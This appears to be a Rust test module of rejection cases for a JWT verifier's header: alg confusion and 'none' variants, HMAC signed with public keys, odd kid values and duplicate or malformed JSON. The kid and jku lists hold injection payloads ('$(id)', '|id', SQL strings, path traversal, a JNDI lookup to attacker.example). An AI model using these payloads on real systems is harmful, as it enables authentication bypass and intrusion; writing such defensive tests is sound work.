//! Attacks by the token's header: another algorithm, another key, and everything that says where a key is.

use p256::pkcs8::{EncodePublicKey, LineEnding};
use serde_json::json;

use super::testing::*;

pub(super) fn cases() -> Vec<Case> {
    [algorithms(), confusions(), names(), parameters(), forms()].into_iter().flatten().collect()
}

/// `alg` says anything but what the key is for. The signature is a good one of the key that is named.
fn algorithms() -> Vec<Case> {
    let world = &*WORLD;
    let mut cases = Vec::new();
    for alg in [
        r#""none""#,
        r#""None""#,
        r#""NONE""#,
        r#""nOnE""#,
        r#""""#,
        "null",
        "0",
        r#"["HS256"]"#,
        r#"{"alg":"HS256"}"#,
        r#""hs256""#,
        r#""HS256 ""#,
        r#""HS384""#,
        r#""HS512""#,
        r#""RS256""#,
        r#""PS256""#,
        r#""ES384""#,
        r#""Ed25519""#,
        r#""eddsa""#,
        r#""es256""#,
        r#""HS256\u0000""#,
    ] {
        let header = format!(r#"{{"alg":{alg}}}"#);
        cases.push(invalid(format!("alg {alg} with an HS256 signature"), signed(&header, &text())));
        let header = format!(r#"{{"alg":{alg},"kid":"{}"}}"#, world.ed25519_kid);
        cases.push(invalid(format!("alg {alg} of the Ed25519 key"), world.ed25519_signed(&header, &text())));
    }
    for alg in ["none", "None", "NONE", "nOnE"] {
        let message = message(&format!(r#"{{"alg":"{alg}"}}"#), &text());
        cases.push(malformed(format!("{alg} without a signature"), format!("Bearer {message}.")));
        cases.push(malformed(format!("{alg} without a third part"), format!("Bearer {message}")));
    }
    cases.push(invalid("alg missing", signed(r#"{"typ":"JWT"}"#, &text())));
    let named = |alg: &str, kid: &str| format!(r#"{{"alg":"{alg}","kid":"{kid}"}}"#);
    let (secret, ed25519, p256) = (secret_kid(), world.ed25519_kid.as_str(), world.p256_kid.as_str());
    cases.push(invalid("ES256 said of the secret", signed(&named("ES256", &secret), &text())));
    cases.push(invalid("EdDSA said of the secret", signed(&named("EdDSA", &secret), &text())));
    cases.push(invalid("ES256 said of the Ed25519 key", world.ed25519_signed(&named("ES256", ed25519), &text())));
    cases.push(invalid("EdDSA said of the P-256 key", world.p256_signed(&named("EdDSA", p256), &text())));
    cases.push(invalid("HS256 said of the P-256 key", world.p256_signed(&named("HS256", p256), &text())));
    cases
}

/// The public key, which everybody has, as the secret of HS256.
fn confusions() -> Vec<Case> {
    let world = &*WORLD;
    let (ed25519, p256) = (world.ed25519.verifying_key(), *world.p256.verifying_key());
    let set: serde_json::Value = serde_json::from_slice(&world.authenticator.key_set()).unwrap();
    let jwk = |at: usize| set["keys"][at].to_string();
    let keys: [(&str, &str, Vec<u8>); 12] = [
        ("Ed25519 PEM", &world.ed25519_kid, ed25519.to_public_key_pem(LineEnding::LF).unwrap().into_bytes()),
        ("Ed25519 PEM, trimmed", &world.ed25519_kid, ed25519.to_public_key_pem(LineEnding::LF).unwrap().trim().into()),
        ("Ed25519 DER", &world.ed25519_kid, ed25519.to_public_key_der().unwrap().into_vec()),
        ("Ed25519 raw", &world.ed25519_kid, ed25519.to_bytes().to_vec()),
        ("Ed25519 x", &world.ed25519_kid, b64(ed25519.to_bytes()).into_bytes()),
        ("Ed25519 JWK", &world.ed25519_kid, jwk(1).into_bytes()),
        ("P-256 PEM", &world.p256_kid, p256.to_public_key_pem(LineEnding::LF).unwrap().into_bytes()),
        ("P-256 DER", &world.p256_kid, p256.to_public_key_der().unwrap().into_vec()),
        ("P-256 point", &world.p256_kid, p256.to_encoded_point(false).as_bytes().to_vec()),
        ("P-256 compressed point", &world.p256_kid, p256.to_encoded_point(true).as_bytes().to_vec()),
        ("P-256 JWK", &world.p256_kid, jwk(0).into_bytes()),
        ("the key set", &world.p256_kid, world.authenticator.key_set().to_vec()),
    ];
    let mut cases = Vec::new();
    for (name, kid, key) in keys {
        let header = format!(r#"{{"alg":"HS256","kid":"{kid}"}}"#);
        cases.push(invalid(format!("HS256 with {name}"), signed_with(&key, &header, &text())));
        cases.push(invalid(format!("HS256 with {name}, no kid"), signed_with(&key, HEADER, &text())));
    }
    cases
}

/// `kid` leads nowhere but to the keys of the ring.
fn names() -> Vec<Case> {
    let world = &*WORLD;
    let mut cases = Vec::new();
    let huge = format!("\"{}\"", "k".repeat(4000));
    for kid in [
        r#""unknown""#,
        r#""""#,
        "null",
        "7",
        "true",
        r#"["a"]"#,
        r#"{"a":1}"#,
        r#""../../../../dev/null""#,
        r#""/dev/null""#,
        r#""file:///dev/null""#,
        r#""https://attacker.example/key""#,
        r#""' OR 1=1 --""#,
        r#""x' UNION SELECT 'AAAA""#,
        r#""a\u0000b""#,
        r#""$(id)""#,
        r#""|id""#,
        r#""${jndi:ldap://attacker.example}""#,
        r#""keys.json""#,
        &huge,
    ] {
        let header = format!(r#"{{"alg":"HS256","kid":{kid}}}"#);
        let short: String = kid.chars().take(40).collect();
        cases.push(invalid(format!("kid {short}"), signed(&header, &text())));
        // What a reader of the file named there would take for the key.
        if kid.contains("null") {
            cases.push(invalid(format!("kid {short} and the empty secret"), signed_with("", &header, &text())));
        }
    }
    let own = secret_kid();
    for (name, kid) in [
        ("with a byte more", format!("{own}A")),
        ("with a byte less", own[1..].to_owned()),
        ("in upper case", own.to_uppercase()),
        ("with NUL", format!("{own}\\u0000")),
        ("with a space", format!("{own} ")),
        ("of the P-256 key", world.p256_kid.clone()),
        ("of the previous secret", crate::accounts::KeyRing::from(PREVIOUS).active().to_string()),
    ] {
        cases.push(invalid(format!("own kid {name}"), signed(&format!(r#"{{"alg":"HS256","kid":"{kid}"}}"#), &text())));
    }
    let eddsa_of_p256 = format!(r#"{{"alg":"EdDSA","kid":"{}"}}"#, world.p256_kid);
    cases.push(invalid("Ed25519 signature under the P-256 kid", world.ed25519_signed(&eddsa_of_p256, &text())));
    let es256_of_ed25519 = format!(r#"{{"alg":"ES256","kid":"{}"}}"#, world.ed25519_kid);
    cases.push(invalid("P-256 signature under the Ed25519 kid", world.p256_signed(&es256_of_ed25519, &text())));
    cases.push(invalid("EdDSA without a kid", world.ed25519_signed(r#"{"alg":"EdDSA"}"#, &text())));
    cases.push(invalid("ES256 without a kid", world.p256_signed(r#"{"alg":"ES256"}"#, &text())));
    cases
}

/// Parameters that others follow, and we refuse (RFC 8725 §3.10, RFC 7515 §4.1.11).
fn parameters() -> Vec<Case> {
    let set: serde_json::Value = serde_json::from_slice(&WORLD.authenticator.key_set()).unwrap();
    let own_key = set["keys"][0].to_string();
    let oct = json!({"kty": "oct", "k": b64(SECRET)}).to_string();
    let more = [
        ("jku", r#""jku":"https://attacker.example/keys""#.to_owned()),
        ("jku of ours", r#""jku":"https://gateway/.well-known/jwks.json""#.to_owned()),
        ("jwk oct", format!(r#""jwk":{oct}"#)),
        ("jwk of ours", format!(r#""jwk":{own_key}"#)),
        ("x5u", r#""x5u":"https://attacker.example/cert""#.to_owned()),
        ("x5c", r#""x5c":["MIIB"]"#.to_owned()),
        ("x5t", r#""x5t":"AAAA""#.to_owned()),
        ("x5t#S256", r##""x5t#S256":"AAAA""##.to_owned()),
        ("crit of a claim", r#""crit":["exp"],"exp":1"#.to_owned()),
        ("crit empty", r#""crit":[]"#.to_owned()),
        ("crit of alg", r#""crit":["alg"]"#.to_owned()),
        ("b64 false", r#""b64":false,"crit":["b64"]"#.to_owned()),
        ("b64 true", r#""b64":true"#.to_owned()),
        ("zip", r#""zip":"DEF""#.to_owned()),
        ("cty", r#""cty":"JWT""#.to_owned()),
        ("enc", r#""enc":"A128GCM""#.to_owned()),
        ("epk", r#""epk":{"kty":"EC"}"#.to_owned()),
        ("claims in the header", r#""sub":"1""#.to_owned()),
        ("an unknown one", r#""x":1"#.to_owned()),
        ("typ JWE", r#""typ":"JWE""#.to_owned()),
        ("typ refresh", r#""typ":"refresh+jwt""#.to_owned()),
        ("typ number", r#""typ":7"#.to_owned()),
        ("typ null", r#""typ":null"#.to_owned()),
    ];
    let kid = secret_kid();
    let header = |more: &str| format!(r#"{{"alg":"HS256","kid":"{kid}",{more}}}"#);
    more.iter().map(|(name, more)| invalid(format!("header with {name}"), signed(&header(more), &text()))).collect()
}

/// Headers that readers take differently.
fn forms() -> Vec<Case> {
    let deep = format!(r#"{{"alg":"HS256","x":{}{}}}"#, "[".repeat(2000), "]".repeat(2000));
    let forms = [
        ("alg twice, none last", r#"{"alg":"HS256","alg":"none"}"#.to_owned()),
        ("alg twice, none first", r#"{"alg":"none","alg":"HS256"}"#.to_owned()),
        ("alg twice, the same", r#"{"alg":"HS256","alg":"HS256"}"#.to_owned()),
        ("alg twice, one escaped", r#"{"alg":"HS256","\u0061lg":"none"}"#.to_owned()),
        ("Alg besides", r#"{"alg":"HS256","Alg":"none"}"#.to_owned()),
        ("kid twice", format!(r#"{{"alg":"HS256","kid":"{0}","kid":"{0}"}}"#, secret_kid())),
        ("typ twice", r#"{"alg":"HS256","typ":"JWT","typ":"JWT"}"#.to_owned()),
        ("nothing", "{}".to_owned()),
        ("array", r#"["HS256"]"#.to_owned()),
        ("array of all", format!(r#"["HS256","JWT","{}"]"#, secret_kid())),
        ("text", r#""HS256""#.to_owned()),
        ("null", "null".to_owned()),
        ("no JSON", "not json".to_owned()),
        ("more after it", r#"{"alg":"HS256"} "trailing""#.to_owned()),
        ("two objects", r#"{"alg":"HS256"}{"alg":"none"}"#.to_owned()),
        ("a comment", r#"{"alg":"HS256"/**/}"#.to_owned()),
        ("a comma too many", r#"{"alg":"HS256",}"#.to_owned()),
        ("single quotes", "{'alg':'HS256'}".to_owned()),
        ("BOM", "\u{feff}{\"alg\":\"HS256\"}".to_owned()),
        ("NUL after it", "{\"alg\":\"HS256\"}\0".to_owned()),
        ("deep", deep),
    ];
    forms.iter().map(|(name, header)| invalid(format!("header: {name}"), signed(header, &text()))).collect()
}
